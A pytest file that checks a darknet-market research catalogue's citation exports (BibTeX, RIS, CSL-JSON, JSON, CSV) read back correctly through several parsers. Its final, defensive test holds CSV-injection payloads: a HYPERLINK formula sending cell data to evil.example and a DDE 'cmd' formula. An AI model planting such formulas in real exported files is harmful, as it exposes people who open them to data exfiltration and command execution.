"""Every export of every record read back by independent readers: pybtex, bibtexparser 2,
rispy, Python's csv and json, and pandoc 3 (for BibTeX, RIS and CSL-JSON)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import bibtexparser
import pybtex.errors
import pytest
import rispy
from bibtexparser import middlewares
from pybtex.database import parse_string

from dnm_catalogue.citations.csl import csl_item
from dnm_catalogue.citations.exports import (
    FORMATS,
    MONTHS,
    csl_json_item,
    export,
    to_bibtex,
    to_csl_json,
    to_csv,
    to_json,
    to_ris,
)
from dnm_catalogue.citations.reference_fields import is_edited_volume
from dnm_catalogue.cli import main
from dnm_catalogue.records.markup import plain_text
from dnm_catalogue.records.model import FIELD_NAMES, Organisation, PartialDate, Person, Record
from dnm_catalogue.records.vocabularies import vocabulary
from readers import REPORTS, catalogue_records, read_with_pandoc

# Characters BibTeX and RIS writers get wrong, in every field that takes text.
AWKWARD = r"50% of {drugs} & $5 #1 under_score ^caret ~tilde back\slash “quoted”"


def make_record(**overrides) -> Record:
    """A small valid record, built directly."""
    values = dict(
        id="awkward-2020-characters", type="report", title=AWKWARD,
        authors=[Organisation("Research & Development Unit"), Person("Décary-Hétu", "David"),
                 Person("Putniņš", "Tālis J."), Person("van der Gouwe", "Daan"),
                 Person("El Presidente")],
        published=PartialDate(2020, 2, 3), language="en", summary="A summary\nover two lines.",
        drugs=["cannabis"], reviewed=PartialDate(2026, 1, 2), sources=["https://example.org/"],
        publisher="Publisher & Sons", place="Zürich", series="Series #7",
        url="https://example.org/a%C3%A4?x=1&y=2", doi="10.1234/ab_c%d", pages="7-19",
        keywords=["one", "two & three"])
    values.update(overrides)
    return Record(**values)


def records_and_awkward() -> list[Record]:
    return [*catalogue_records(), make_record(),
            make_record(id="awkward-2021-article", type="journal-article", published_in="J & K",
                        volume="3", issue="2", title="Lone { brace", pages="e100"),
            make_record(id="awkward-2019-chapter", type="book-chapter", published_in="Book",
                        editors=[Person("Ed", "Itor"), Organisation("Org & Co.")],
                        title_english="A translation", language="de")]


def type_key(record: Record, key: str) -> str:
    return vocabulary("types")[record.type].extra[key]


def bibtex_type(record: Record) -> str:
    """A thesis's entry type says its degree: @phdthesis, @mastersthesis (with `type` for a
    bachelor's thesis and the like), or @thesis where the record gives none."""
    if record.type != "thesis":
        return type_key(record, "bibtex")
    if not record.genre:
        return "thesis"
    return "phdthesis" if re.search(r"ph\.?d|doctor", record.genre, re.IGNORECASE) else "mastersthesis"


def zotero_genre(record: Record) -> str | None:
    """The genre the downloads give: a report's, thesis's or web page's (Zotero keeps no other)."""
    if record.type not in ("report", "working-paper", "policy-brief", "thesis", "web-article"):
        return None
    return record.genre or {"working-paper": "Working paper",
                            "policy-brief": "Policy brief"}.get(record.type)


def work_link(record: Record) -> str | None:
    """The work's URL, else its DOI as a link."""
    return record.url or (f"https://doi.org/{record.doi}" if record.doi else None)


def labelled_summary(record: Record) -> str:
    return "[DNM Catalogue summary, not the authors' abstract] " + plain_text(record.summary)


# BibTeX -------------------------------------------------------------------------------------


def bibtex_person_parts(name) -> tuple[str, str]:
    """(given, family) as a BibTeX reader should split the name."""
    if isinstance(name, Organisation):
        return "", "{" + name.name + "}"
    if not name.given and " " in name.family:
        return "", "{" + name.family + "}"
    return name.given or "", name.family


def test_bibtex_reads_back_with_pybtex(capsys):
    records = records_and_awkward()
    pybtex.errors.set_strict_mode(True)  # any problem raises instead of printing a warning
    database = parse_string(to_bibtex(records), "bibtex")
    assert list(database.entries) == [record.id for record in records]
    for record in records:
        entry = database.entries[record.id]
        assert entry.type == bibtex_type(record)
        roles = [("editor", record.editors)] if is_edited_volume(record) else [
            ("author", record.authors), ("editor", record.editors)]
        for role, names in roles:
            parsed = entry.persons.get(role, [])
            assert len(parsed) == len(names), (record.id, role)
            for person, name in zip(parsed, names, strict=True):
                given, family = bibtex_person_parts(name)
                family_read = " ".join(person.prelast_names + person.last_names)
                assert (" ".join(person.first_names + person.middle_names), family_read) == (
                    given.replace("&", r"\&"), family.replace("&", r"\&")), record.id
        assert entry.fields["year"] == str(record.year)
        assert entry.fields["date"] == str(record.published)
        if record.published.month:
            assert entry.fields["month"].lower().startswith(MONTHS[record.published.month - 1])
        if record.pages:
            assert entry.fields["pages"] == record.pages
        for field, value in (("doi", record.doi), ("url", work_link(record)), ("isbn", record.isbn),
                             ("volume", record.volume), ("language", record.language),
                             ("type", zotero_genre(record))):
            assert straight(entry.fields.get(field)) == straight(value), (record.id, field)
    assert capsys.readouterr().err == ""


def test_bibtex_reads_back_with_bibtexparser():
    records = records_and_awkward()
    raw = bibtexparser.parse_string(to_bibtex(records))
    library = bibtexparser.parse_string(to_bibtex(records), append_middleware=[
        middlewares.SeparateCoAuthors(), middlewares.SplitNameParts(),
        middlewares.LatexDecodingMiddleware()])
    assert library.failed_blocks == [] and raw.failed_blocks == []
    assert [entry.key for entry in library.entries] == [record.id for record in records]
    for record, entry, undecoded in zip(records, library.entries, raw.entries, strict=True):
        fields = {key: field.value for key, field in entry.fields_dict.items()}
        verbatim = {key: field.value for key, field in undecoded.fields_dict.items()}
        assert entry.entry_type == bibtex_type(record)
        if "{" not in record.title:  # a lone brace is spelt \textbraceleft, which it cannot read
            assert straight(decoded(fields["title"])) == straight(record.title), record.id
        container = {"article": "journal", "incollection": "booktitle", "inproceedings": "booktitle",
                     "online": "journaltitle"}.get(entry.entry_type, "howpublished")
        publisher = {"techreport": "institution", "phdthesis": "school", "mastersthesis": "school",
                     "thesis": "institution"}.get(entry.entry_type, "publisher")
        expected = {container: record.published_in, publisher: record.publisher,
                    "address": record.place, "series": record.series, "volume": record.volume,
                    "number": record.issue, "edition": record.edition, "isbn": record.isbn,
                    "language": record.language, "year": str(record.year),
                    "date": str(record.published), "type": zotero_genre(record),
                    "abstract": labelled_summary(record)}
        for key, value in expected.items():
            assert straight(decoded(fields.get(key))) == straight(value), (record.id, key)
        if record.pages:
            assert fields["pages"].replace("\u2013", "-") == record.pages
        # URLs and DOIs are verbatim fields (a LaTeX decoder would read % as a comment).
        assert verbatim.get("url") == work_link(record) and verbatim.get("doi") == record.doi
        if record.title_english:
            assert straight(fields["titleaddon"]) == f"[{straight(record.title_english)}]"
        if record.published.month:
            assert fields["month"] == MONTHS[record.published.month - 1]
        if record.keywords:
            assert straight(decoded(fields["keywords"])).split(", ") == [
                straight(keyword) for keyword in record.keywords]
        names = record.editors if is_edited_volume(record) else record.authors
        role = "editor" if is_edited_volume(record) else "author"
        for parts, name in zip(fields[role], names, strict=True):
            given, family = bibtex_person_parts(name)
            read = decoded(" ".join(parts.von + parts.last)).strip("{}")
            assert (" ".join(parts.first), read) == (given, family.strip("{}")), record.id


def straight(value: str | None) -> str | None:
    """Quotation marks all alike: readers may print them typographically (TeX does) and
    pandoc reads a quotation as such, printing it with its own (double) marks."""
    if value is None:
        return None
    return value.translate(str.maketrans(dict.fromkeys("'\u2018\u2019\u201c\u201d", '"')))


def decoded(value: str | None) -> str | None:
    """pylatexenc's reading, with its one quirk undone (^ comes back as U+02C6)."""
    return None if value is None else value.replace("\u02c6", "^").replace("\\&", "&")


def pandoc_name(name: dict) -> str:
    """'Family, Given' from a CSL name as pandoc gives it."""
    if "literal" in name:
        return name["literal"]
    family = " ".join(part for part in (name.get("dropping-particle"),
                                        name.get("non-dropping-particle"), name["family"]) if part)
    return f"{family}, {spaced_initials(name['given'])}" if name.get("given") else family


def record_name(name) -> str:
    """'Family, Given' of a record's name."""
    if isinstance(name, Organisation):
        return name.name
    return f"{name.family}, {spaced_initials(name.given)}" if name.given else name.family


def ris_read_name(name) -> str:
    """A record's name as a RIS reader gives it back: an organisation's name only up to its
    first comma (`AU` is 'Family, Given'; see README, known limits)."""
    if isinstance(name, Organisation) and "," in name.name:
        return name.name.split(",", 1)[0]
    return record_name(name)


def spaced_initials(given: str) -> str:
    """pandoc's BibTeX reader writes "A.J." as "A. J."; compare names that way."""
    return re.sub(r"\.(?=\w)", ". ", given)


def test_bibtex_reads_back_with_pandoc():
    records = records_and_awkward()
    items = {item["id"]: item for item in read_with_pandoc(to_bibtex(records), "bibtex")}
    assert set(items) == {record.id for record in records}
    for record in records:
        item = items[record.id]
        if record.title_english:
            assert straight(item["title"]).startswith(straight(record.title))
            assert straight(item["title"]).endswith(f"[{straight(record.title_english)}]")
        elif "{" not in record.title:
            assert straight(item["title"]) == straight(record.title), record.id
        if not is_edited_volume(record):
            assert [pandoc_name(name) for name in item["author"]] == [
                record_name(name) for name in record.authors], record.id
        assert [pandoc_name(name) for name in item.get("editor", [])] == [
            record_name(name) for name in record.editors]
        assert item["issued"] == {"date-parts": [record.published.parts]}
        # BibTeX's `number` is an article's issue, a report's number or a number in a series
        number = next((item[key] for key in ("issue", "number", "collection-number")
                       if key in item), None)
        assert number == record.issue, record.id
        expected = {"container-title": record.published_in, "publisher": record.publisher,
                    "publisher-place": record.place, "collection-title": record.series,
                    "volume": record.volume, "DOI": record.doi,
                    "URL": work_link(record), "ISBN": record.isbn, "edition": record.edition}
        if type_key(record, "bibtex") == "misc":  # the container is @misc's `howpublished`,
            del expected["container-title"]       # which pandoc reads as the publisher
            expected["publisher"] = record.publisher or record.published_in
        for key, value in expected.items():
            assert straight(item.get(key)) == straight(value), (record.id, key, item.get(key))
        if record.pages:
            assert item["page"].replace("\u2013", "-") == record.pages


def test_bibtex_protects_case_and_escapes_specials():
    entry = to_bibtex([make_record()])
    assert r"title = {{50\% of \{drugs\} \& \$5 \#1 under\_score \textasciicircum{}caret " \
           r"\textasciitilde{}tilde back\textbackslash{}slash “quoted”}}" in entry
    assert "author = {{Research \\& Development Unit} and Décary-Hétu, David and " \
           "Putniņš, Tālis J. and van der Gouwe, Daan and {El Presidente}}" in entry
    assert "pages = {7-19}" in entry and "month = feb" in entry


def test_bibtex_keeps_a_name_with_and_in_it_as_one_person():
    """BibTeX separates names at 'and': a family name such as 'Smith and Jones' is braced, or
    one person becomes several."""
    record = make_record(authors=[Person("Smith and Jones", "Ann"), Person("Doe", "Jane AND Joe"),
                                  Person("Tom and Jerry")])
    pybtex.errors.set_strict_mode(True)
    persons = parse_string(to_bibtex([record]), "bibtex").entries[record.id].persons["author"]
    assert [(" ".join(person.first_names), " ".join(person.last_names)) for person in persons] == [
        ("Ann", "{Smith and Jones}"), ("{Jane AND Joe}", "Doe"), ("", "{Tom and Jerry}")]


def test_bibtex_lone_brace_still_parses():
    entry = to_bibtex([make_record(title="Lone { brace")])
    assert r"Lone \textbraceleft{} brace" in entry
    pybtex.errors.set_strict_mode(True)
    assert parse_string(entry, "bibtex").entries


# RIS ----------------------------------------------------------------------------------------


def ris_name(name) -> str:
    return f"{name.name}," if isinstance(name, Organisation) else (
        name.sort_name if name.given else f"{name.family},")


def ris_tags(record: Record) -> dict[str, str | None]:
    """Where the RIS file puts the container, the series, the editors and the number (the tags
    Zotero's reader and the RIS specification agree on)."""
    kind = type_key(record, "ris")
    return {
        "container": {"JOUR": "T2", "CHAP": "T2", "ELEC": "T2", "CPAPER": "C3"}.get(kind),
        "series": "T2" if kind in ("RPRT", "BOOK") else "T3",
        "editors": {"BOOK": "A3", "CHAP": "A2", "CPAPER": "A2", "JOUR": "A2"}.get(kind, "ED"),
        "number": "SN" if kind == "RPRT" else "IS",
        "place": "C1" if kind == "CPAPER" else "CY",
    }


RISPY_KEYS = {"T2": "secondary_title", "T3": "tertiary_title", "C3": "custom3", "C1": "custom1",
              "CY": "place_published", "A2": "secondary_authors", "A3": "tertiary_authors",
              "SN": "issn", "IS": "number"}


def test_ris_reads_back_with_rispy():
    records = records_and_awkward()
    entries = rispy.loads(to_ris(records))
    assert [entry["id"] for entry in entries] == [record.id for record in records]
    for record, entry in zip(records, entries, strict=True):
        start, _, end = (record.pages or "").partition("-")
        tags = ris_tags(record)
        expected = {
            "type_of_reference": type_key(record, "ris"),
            "authors": None if is_edited_volume(record) else [ris_name(n) for n in record.authors],
            "title": record.title, "translated_title": record.title_english,
            "year": str(record.year), "date": "/".join(
                [f"{record.year:04d}", f"{record.published.month or '':0>2}".replace("00", ""),
                 f"{record.published.day or '':0>2}".replace("00", "")]) + "/",
            "start_page": start or None, "end_page": end or None, "volume": record.volume,
            "edition": record.edition, "publisher": record.publisher, "doi": record.doi,
            "type_of_work": zotero_genre(record),
            "urls": [work_link(record)] if work_link(record) else None, "language": record.language,
            "keywords": record.keywords or None, "abstract": labelled_summary(record),
        }
        expected.update({key: None for key in ("secondary_title", "tertiary_title", "custom3")})
        for tag, value in ((tags["container"], record.published_in), (tags["series"], record.series),
                           (tags["place"], record.place), (tags["number"], record.issue)):
            if tag:
                expected[RISPY_KEYS[tag]] = expected.get(RISPY_KEYS[tag]) or value
        # A report's ISBN has no tag: SN is its number, in the RIS specification and in Zotero.
        if tags["number"] == "IS":
            expected["issn"] = record.isbn
        if tags["editors"] in RISPY_KEYS:
            expected[RISPY_KEYS[tags["editors"]]] = [ris_name(name) for name in record.editors] or None
        for key, value in expected.items():
            assert entry.get(key) == value, (record.id, key, entry.get(key))


def test_ris_reads_back_with_pandoc():
    records = records_and_awkward()
    items = {item["id"]: item for item in read_with_pandoc(to_ris(records), "ris")}
    assert set(items) == {record.id for record in records}
    for record in records:
        item = items[record.id]
        assert item["title"] == record.title
        if not is_edited_volume(record):
            # organisations end in a comma, so pandoc reads each as one family name; one whose
            # name holds a comma is split there (a known limit of RIS readers, README)
            assert [pandoc_name(name) for name in item["author"]] == [
                ris_read_name(name) for name in record.authors], record.id
        if ris_tags(record)["editors"] == "A2":  # pandoc reads A2 and ED as editors, not A3
            assert [pandoc_name(name) for name in item.get("editor", [])] == [
                record_name(name) for name in record.editors]
        assert item["issued"]["date-parts"][0][0] == record.year
        tags = ris_tags(record)
        # pandoc reads T2 as the container: for a report or a book that is its series (as the
        # RIS specification and Zotero have it); C3, a proceedings title, it does not read.
        container = {"T2": record.published_in, "C3": None, None: None}[tags["container"]]
        if tags["series"] == "T2":
            container = record.series
        for key, value in {"container-title": container,
                           "publisher": record.publisher, "DOI": record.doi,
                           "URL": work_link(record), "volume": record.volume}.items():
            assert item.get(key) == value, (record.id, key)
        if record.pages:
            assert item["page"] == record.pages


# CSL-JSON, JSON, CSV ------------------------------------------------------------------------


def test_csl_json_download_is_the_citation_model_as_zotero_reads_it():
    """The download differs from the citation model only as decided (README, "Reference
    managers"), and pandoc reads it."""
    records = records_and_awkward()
    text = to_csl_json(records)
    data = json.loads(text)
    assert data == [csl_json_item(record) for record in records]
    for record, item in zip(records, data, strict=True):
        model = csl_item(record)
        assert item["title"] == record.title  # no bracketed translation
        assert item["abstract"] == labelled_summary(record) and "\n" not in item["abstract"]
        assert item.get("URL") == work_link(record)
        assert item.get("genre") == zotero_genre(record)
        for role, names in (("author", record.authors), ("editor", record.editors)):
            if role in model:  # particles stay in the family name: Zotero drops the others
                assert [name.get("family") or name.get("literal") for name in item[role]] == [
                    getattr(name, "family", None) or name.name for name in names]
        decided = {"title", "abstract", "URL", "genre", "author", "editor"}
        assert {key: value for key, value in item.items() if key not in decided} == {
            key: value for key, value in model.items() if key not in decided}, record.id
    items = {item["id"]: item for item in read_with_pandoc(text, "csljson")}
    for record, ours in zip(records, data, strict=True):
        theirs = items[record.id]
        for key in ("type", "issued", "DOI", "URL", "ISBN", "page"):
            assert theirs.get(key) == ours.get(key), (record.id, key)
        for role in ("author", "editor"):
            assert [pandoc_name(name) for name in theirs.get(role, [])] == [
                pandoc_name(name) for name in ours.get(role, [])], (record.id, role)
        # pandoc reads quotation marks in text as typographic ones
        for key in ("title", "container-title", "publisher", "publisher-place",
                    "collection-title"):
            assert straight(theirs.get(key)) == straight(ours.get(key)), (record.id, key)


def test_json_has_every_field_of_every_record():
    records = records_and_awkward()
    data = json.loads(to_json(records))
    assert data == [record.to_dict() for record in records]
    assert all(set(item) <= set(FIELD_NAMES) for item in data)


def test_csv_has_one_row_per_record_and_every_field():
    records = records_and_awkward()
    rows = list(csv.DictReader(io.StringIO(to_csv(records))))
    assert len(rows) == len(records)
    assert list(rows[0]) == list(FIELD_NAMES)
    for record, row in zip(records, rows, strict=True):
        assert row["id"] == record.id and row["title"] == record.title
        assert row["summary"] == record.summary  # multi-line text kept, quoted by csv
        assert row["published"] == str(record.published)
        assert row["doi"] == (record.doi or "")
        for field in ("countries", "regions", "drugs", "markets", "methods", "keywords",
                      "related", "sources"):
            values = getattr(record, field)
            assert row[field].split("; ") == values if values else row[field] == ""
        assert row["authors"].split("; ") == [
            name.name if isinstance(name, Organisation) else name.sort_name
            for name in record.authors]
        if record.period:
            assert row["period"] == f"{record.period.start}-{record.period.end}"


def test_export_names_every_format():
    record = make_record()
    for name in FORMATS:
        assert export([record], name)
    with pytest.raises(ValueError, match="unknown export format"):
        export([record], "endnote")


# The export command -------------------------------------------------------------------------


def test_export_command_writes_a_filtered_file(tmp_path, capsys):
    target = tmp_path / "cannabis.bib"
    code = main(["export", "--format", "bibtex", "--drug", "cannabis", "--from", "2019",
                 "--reports", str(REPORTS), "--output", str(target)])
    assert code in (0, 1)  # 1 only when some record of the live catalogue has a problem
    chosen = [record for record in catalogue_records()
              if "cannabis" in record.drugs and record.year >= 2019]
    library = bibtexparser.parse_string(target.read_text("utf-8"))
    assert library.failed_blocks == []
    assert {entry.key for entry in library.entries} <= {record.id for record in chosen}
    assert library.entries, "some cannabis records since 2019 exist"
    assert f"as bibtex to {target}" in capsys.readouterr().err


@pytest.mark.parametrize("format_name", FORMATS)
def test_export_command_prints_each_format(format_name, capsys):
    code = main(["export", "--format", format_name, "--type", "book",
                 "--reports", str(REPORTS)])
    assert code in (0, 1)
    output = capsys.readouterr().out
    assert "bancroft-2020-darknet-and-smarter-crime" in output


def test_export_command_needs_a_format(capsys):
    with pytest.raises(SystemExit) as exit_info:
        main(["export"])
    assert exit_info.value.code == 2
    assert "--format" in capsys.readouterr().err


def test_whole_catalogue_files_joined_from_fragments_equal_the_exporters():
    """The downloads and browser files are joined from per-record pieces (so one edited record
    re-makes one record's pieces); they must be exactly what the exporters give."""
    from dnm_catalogue.citations import exports
    from dnm_catalogue.records.catalogue import check_catalogue
    from dnm_catalogue.records.markup import script_json
    from dnm_catalogue.records.query import newest_first, search_text
    from dnm_catalogue.site import fragments
    from dnm_catalogue.site.pages import downloads
    from dnm_catalogue.site.pages import record as record_page

    records = newest_first(check_catalogue([Path(__file__).parent.parent / "reports"]).records)
    pieces = [fragments.record_fragments(record) for record in records]
    files = {name: content for _, name, _, content in downloads.catalogue_files(records, pieces)}
    assert files["dnm-catalogue.bib"] == exports.to_bibtex(records)
    assert files["dnm-catalogue.ris"] == exports.to_ris(records)
    assert files["dnm-catalogue.csl.json"] == exports.to_csl_json(records)
    assert files["dnm-catalogue.json"] == exports.to_json(records)
    assert files["dnm-catalogue.csv"] == exports.to_csv(records)
    assert fragments.text_script(pieces) == (
        "window.DNM_TEXT=" + script_json([search_text(record) for record in records]) + ";\n")
    exports_by_id = {record.id: {"bibtex": exports.to_bibtex([record]), "ris": exports.to_ris([record]),
                                 "csl": json.loads(exports.to_csl_json([record]))[0]} for record in records}
    assert fragments.exports_script(records, pieces) == (
        "window.DNM_EXPORTS=" + script_json(exports_by_id) + ";\n")
    assert fragments.json_array([]) == exports.to_csl_json([])
    assert fragments.csv_file([]) == exports.to_csv([])
    for record, piece in zip(records, pieces, strict=True):
        assert record_page.record_exports(record, piece) == {
            key: export([record]) for key, _, _, export in record_page.MACHINE_FORMATS}


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1"]


def test_csv_cells_never_start_a_formula_and_read_back_as_written(tmp_path, capsys):
    """OWASP CSV injection: a cell that a spreadsheet would evaluate starts with an apostrophe,
    which spreadsheets hide; every cell of the command's file and the site's file is checked."""
    from dnm_catalogue.site.fragments import csv_file, record_fragments

    record = make_record(title=FORMULAS[0], keywords=FORMULAS[1:], place="=cmd|' /C calc'!A0")
    for text in (to_csv([record]), csv_file([record_fragments(record)])):
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) == 2
        for cell in (cell for row in rows for cell in row):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row["title"] == "'" + FORMULAS[0]
        assert row["place"] == "'=cmd|' /C calc'!A0"
        # Lists are joined into one cell, which starts with the first keyword's formula sign.
        assert row["keywords"] == "'" + "; ".join(FORMULAS[1:])
    assert to_csv([record]) == csv_file([record_fragments(record)])
